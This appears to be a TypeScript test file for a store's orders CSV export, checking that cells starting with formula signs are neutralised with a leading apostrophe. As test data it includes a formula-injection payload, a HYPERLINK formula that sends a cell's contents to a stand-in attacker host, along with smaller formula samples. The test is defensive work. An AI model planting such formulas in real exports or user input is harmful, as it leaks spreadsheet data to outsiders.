import { mkdtempSync, readFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DatabaseHandle } from "../../server/db/client";
import { orders, products } from "../../server/db/schema";
import { exportOrdersCsv } from "../../server/orders/order-export";
import { createTestDatabase } from "../helpers/database";
import { insertOrder, insertUser } from "../helpers/reviews";

/**
 * Issue 21, finding 5: the orders export is opened in a spreadsheet. A shopper who names
 * themselves `=HYPERLINK(…)` (or a discount code, a payment id, any text a cell begins with)
 * must not become a formula there: every cell that starts with =, +, -, @, tab or carriage return
 * is written with a leading apostrophe (OWASP's rule), and nothing else changes.
 */

let database: DatabaseHandle;
beforeAll(async () => {
  database = await createTestDatabase();
});
afterAll(async () => {
  await database.close();
});

describe("export-orders writes no cell a spreadsheet would run", () => {
  it("neutralises a formula in the customer's name and e-mail, and keeps amounts and plain text as they are", async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")';
    const userId = await insertUser(database.db, { email: "plain@example.com" });
    const [product] = await database.db
      .insert(products)
      .values({ title: "@SUM(1+1) Dress", priceCents: 1000, category: "Dress" })
      .returning({ id: products.id });
    const orderId = await insertOrder(database.db, userId, [product.id]);
    await database.db
      .update(orders)
      .set({
        userName: formula,
        userEmail: "+cmd@example.com",
        paymentId: "-2+3",
        items: [
          {
            productId: product.id,
            title: "@SUM(1+1) Dress",
            quantity: 1,
            priceCents: 1000,
            imageUrls: [],
            selectedSize: null,
            color: null,
          },
        ],
      })
      .where(eq(orders.id, orderId));

    const file = path.join(mkdtempSync(path.join(os.tmpdir(), "store-csv-")), "orders.csv");
    expect(await exportOrdersCsv(database.db, file)).toBe(1);
    const text = readFileSync(file, "utf8");
    const [header, row] = parse(text) as string[][];
    const cell = (column: string) => row[header.indexOf(column)];

    expect(cell("customer name")).toBe(`'${formula}`);
    expect(cell("customer email")).toBe("'+cmd@example.com");
    expect(cell("payment id")).toBe("'-2+3");
    // The title is inside the items cell, which begins with the quantity: nothing to neutralise.
    expect(cell("items")).toBe("1 × @SUM(1+1) Dress @ 10.00");
    expect(cell("total")).toMatch(/^\d+\.\d{2}$/);
    // No cell of the file begins with a formula sign.
    for (const record of parse(text) as string[][])
      for (const value of record) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
